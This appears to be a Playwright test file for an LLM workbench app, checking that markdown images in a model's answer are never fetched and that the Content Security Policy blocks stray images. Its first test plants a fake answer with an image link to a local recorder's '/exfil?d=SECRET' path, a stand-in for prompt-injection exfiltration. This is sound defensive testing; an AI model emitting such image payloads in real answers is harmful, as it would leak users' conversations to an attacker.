"""In a real Chromium: nothing in an answer is fetched, and the app works under its CSP."""

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import ConsoleMessage, Page, expect

from tests.browser_helpers import ANSWER, open_workbench, run

pytestmark = pytest.mark.browser


class Recorder(ThreadingHTTPServer):
    """An HTTP server that notes every request it gets: a stand-in for the
    attacker's server an injected image would send the conversation to."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                recorder.paths.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    server = Recorder()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def violations(page: Page) -> list[str]:
    """Console messages about the CSP or Permissions-Policy, and errors (htmx
    logs one for each hx-trigger filter it may not eval), but the favicon's 404."""
    found: list[str] = []

    def note(message: ConsoleMessage) -> None:
        if message.location.get("url", "").endswith("/favicon.ico"):
            return
        policy = ("Content Security Policy", "Permissions-Policy", "Unrecognized feature")
        if message.type == "error" or any(word in message.text for word in policy):
            found.append(f"{message.type}: {message.text}")

    page.on("console", note)
    return found


def test_an_image_in_an_answer_is_not_fetched(page: Page, fake, recorder, violations):
    exfil = f"{recorder.url}/exfil?d=SECRET"
    fake.configure(content=f"Look: ![p]({exfil}) and ![q][r]\n\n[r]: {recorder.url}/ref")
    open_workbench(page)
    run(page, "show me a picture")
    answer = page.locator(f"{ANSWER}[data-status=done] .content")
    expect(answer).to_contain_text("Look:")
    page.reload()
    expect(answer).to_contain_text("Look:")
    page.wait_for_load_state("networkidle")
    assert recorder.paths == []
    assert answer.locator("img").count() == 0
    assert "<img" not in answer.inner_html()
    expect(answer.get_by_role("link", name="p")).to_have_attribute("href", exfil)  # on click only
    expect(answer.get_by_role("link", name="q")).to_have_attribute("href", f"{recorder.url}/ref")
    assert violations == []


def test_the_csp_stops_an_image_from_elsewhere_should_one_slip_through(
    page: Page, recorder, violations
):
    page.goto("/models")
    page.evaluate(
        "url => document.body.insertAdjacentHTML('beforeend', `<img src='${url}/slipped'>`)",
        recorder.url,
    )
    page.wait_for_load_state("networkidle")
    assert recorder.paths == []
    assert any("img-src" in v for v in violations), violations


def test_the_app_works_under_its_csp(page: Page, fake, violations):
    fake.configure(content="| a | b |\n|:--|--:|\n| 1 | 2 |")
    drafts: list[str] = []  # autosaves of the workbench form
    page.on("request", lambda r: r.url.endswith("/workbench/draft") and drafts.append(r.url))
    open_workbench(page)
    run(page, "a table please")  # the relay's websocket: connect-src 'self' covers ws:
    answer = page.locator(f"{ANSWER}[data-status=done] .content")
    expect(answer.locator("td.align-right")).to_have_text("2")
    expect(answer.locator("td.align-right")).to_have_css("text-align", "right")

    page.get_by_role("tab", name="API").click()
    expect(page.get_by_role("tabpanel", name="cURL")).to_contain_text("curl")
    page.get_by_text("Import a request").click()
    drafts.clear()
    page.get_by_role(
        "textbox", name="Paste a cURL command, a JSON body, or code from this tab"
    ).fill("typing here saves no draft")
    page.wait_for_timeout(1000)  # over the autosave's 400 ms delay
    assert drafts == []
    with page.expect_response("**/workbench/draft"):  # while other fields do autosave
        page.get_by_role("spinbutton", name="Temperature").fill("0.5")

    page.goto("/models")
    page.get_by_label("Search").fill("nano")
    expect(page).to_have_url(re.compile(r"search=nano"))
    expect(page.get_by_role("link", name="GPT 4.1 mini", exact=True)).to_have_count(0)
    assert violations == []
